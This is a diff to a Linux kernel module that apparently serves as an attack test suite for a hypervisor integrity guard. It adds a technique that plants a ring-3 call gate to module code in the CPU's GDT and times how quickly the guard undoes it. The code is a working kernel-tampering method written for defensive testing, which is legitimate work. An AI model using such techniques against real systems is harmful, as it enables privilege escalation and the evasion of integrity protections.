@@ -36,11 +36,18 @@
  *   n  forged hypercalls from ring 0 (no secret, wrong secret, bad pointers, huge sizes, kernel
  *      addresses, unknown functions); tests/guest/programs/forge.c does the same from ring 3
  *   o  register_ftrace_function with FTRACE_OPS_FL_IPMODIFY redirecting a kernel function to module code
+ *   p  a DPL-3 call gate to module code written into the free slot 7 of this CPU's GDT through its writable
+ *      per-CPU alias (get_cpu_gdt_rw). The guard checks the GDT's fixed descriptors instead of
+ *      write-protecting the page (Linux rewrites the TLS slots on every context switch), so the store
+ *      itself succeeds and the check puts the old descriptor back at the CPU's next exit after its
+ *      interval: the module waits up to 2 s (CPUID exits) and reports landed=yes when the gate is still
+ *      there then, with the time it took to disappear
  *
  * Symbols come from kallsyms_lookup_name, found with the kprobe trick (it is not exported since 5.7).
  * "landed=no setup-failed: ..." means the technique could not even be tried (a missing symbol, a CPU
  * without the feature): the emulator tests treat that as a failure of the suite, not a block.
  */
+#include <linux/delay.h>
 #include <linux/errno.h>
 #include <linux/ftrace.h>
 #include <linux/init.h>
@@ -66,7 +73,7 @@
 
 static char *technique = "";
 module_param(technique, charp, 0444);
-MODULE_PARM_DESC(technique, "the technique to try: one of a..o");
+MODULE_PARM_DESC(technique, "the technique to try: one of a..p");
 static unsigned long hvpa;
 module_param(hvpa, ulong, 0444);
 MODULE_PARM_DESC(hvpa, "m: physical address of the hypervisor's reservation (vigild status)");
@@ -849,11 +856,43 @@ static void technique_o(void)
 	       atomic_read(&hook_hits), unregister_err, after, memcmp(before, after, 5) == 0 ? "restored" : "NOT RESTORED");
 }
 
+static void technique_p(void)
+{
+	unsigned long stub = (unsigned long)attack_stub;
+	unsigned int cpu, waited_us = 0, eax, ebx, ecx, edx;
+	u64 gate, original, readback, now;
+	struct desc_struct *gdt;
+	int err;
+
+	cpu = get_cpu();   /* stay on this CPU: its GDT, its exits */
+	gdt = get_cpu_gdt_rw(cpu);
+	original = READ_ONCE(*(u64 *)&gdt[7]);
+	/* A 64-bit call gate's lower half (SDM Vol 3A 5.8.3.1): offset 15:0, selector, type 0xC, DPL 3, P, offset 31:16. */
+	gate = (stub & 0xFFFF) | ((u64)__KERNEL_CS << 16) | (0xECULL << 40) | (((u64)(stub >> 16) & 0xFFFF) << 48);
+	err = write64_safe(&gdt[7], gate);
+	readback = READ_ONCE(*(u64 *)&gdt[7]);
+	while (readback == gate && waited_us < 2000000) {
+		cpuid(0, &eax, &ebx, &ecx, &edx);   /* an exit: the guard may check this CPU's GDT before it enters again */
+		udelay(100);
+		waited_us += 100;
+		readback = READ_ONCE(*(u64 *)&gdt[7]);
+	}
+	if (readback != original)
+		write64_safe(&gdt[7], original);
+	now = READ_ONCE(*(u64 *)&gdt[7]);
+	put_cpu();
+	report('p', readback == gate,
+	       "call gate 0x%016llx in GDT slot 7 of cpu %u at %px: store err %d, 0x%016llx -> after %u us 0x%016llx (%s); undone: slot %s",
+	       gate, cpu, &gdt[7], err, original, waited_us, readback,
+	       readback == gate ? "still there" : readback == original ? "put back" : "changed again",
+	       now == original ? "restored" : "NOT RESTORED");
+}
+
 static int __init attack_init(void)
 {
 	pr_info("vigil-attack: loaded technique=%s\n", technique);
 	if (strlen(technique) != 1) {
-		pr_err("vigil-attack: technique= must be one letter a..o\n");
+		pr_err("vigil-attack: technique= must be one letter a..p\n");
 		return -EINVAL;
 	}
 	switch (technique[0]) {
@@ -872,6 +911,7 @@ static int __init attack_init(void)
 	case 'm': technique_m(); break;
 	case 'n': technique_n(); break;
 	case 'o': technique_o(); break;
+	case 'p': technique_p(); break;
 	default:
 		pr_err("vigil-attack: unknown technique '%s'\n", technique);
 		return -EINVAL;
